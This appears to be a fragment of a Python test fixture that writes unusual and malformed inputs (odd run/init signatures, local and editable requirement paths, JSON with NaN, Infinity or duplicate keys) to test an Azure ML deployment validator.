    (hostile / "run-two.py").write_text("def init():\n    pass\n\n\ndef run(data, other):\n    return data\n")
    (hostile / "req-local.txt").write_text("./mylib\nnumpy\n")
    (hostile / "req-editable.txt").write_text("-e ../shared/lib\nnumpy\n")
    (hostile / "conda-pip-r.yml").write_text("name: x\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n"
                                             "    - -r requirements.txt\n")
    (hostile / "async-run.py").write_text("def init():\n    pass\n\n\nasync def run(data):\n    return data\n")
    (hostile / "async-init.py").write_text("async def init():\n    pass\n\n\ndef run(data):\n    return data\n")
    (hostile / "run-varargs.py").write_text("def init():\n    pass\n\n\ndef run(*args):\n    return args\n")
    (hostile / "run-kwargs.py").write_text("def init():\n    pass\n\n\ndef run(data, **kwargs):\n    return data\n")
    (hostile / "run-posonly.py").write_text("def init():\n    pass\n\n\ndef run(data, /):\n    return data\n")
    (hostile / "requirements.txt").write_text("azureml-inference-server-http\nscikit-learn\njoblib\n")
    (hostile / "sample-3k.json").write_text('{"data": [' + ", ".join(["[0.03, 0.05, 0.06, 0.02, 0.04]"] * 100) + ']}\n')
    (hostile / "nan.json").write_text('{"data": [[0.03, NaN, 0.06]]}\n')
    (hostile / "infinity.json").write_text('{"data": [[0.03, -Infinity, 0.06]]}\n')
    (hostile / "name-twice.json").write_text('{"data": [[0.03, 0.05]], "data": [[1, 2]]}\n')
    (hostile / "nested-name-twice.json").write_text('{"data": [{"age": 0.03, "bmi": 0.05, "age": 0.04}]}\n')
    (project / "pins").mkdir()
    for name, text in PIN_FILES.items():
        (project / name).write_text(text)
    for name, text in INCLUDE_FILES.items():
        (hostile / name).write_text(text)
    make_h24b_files(hostile)
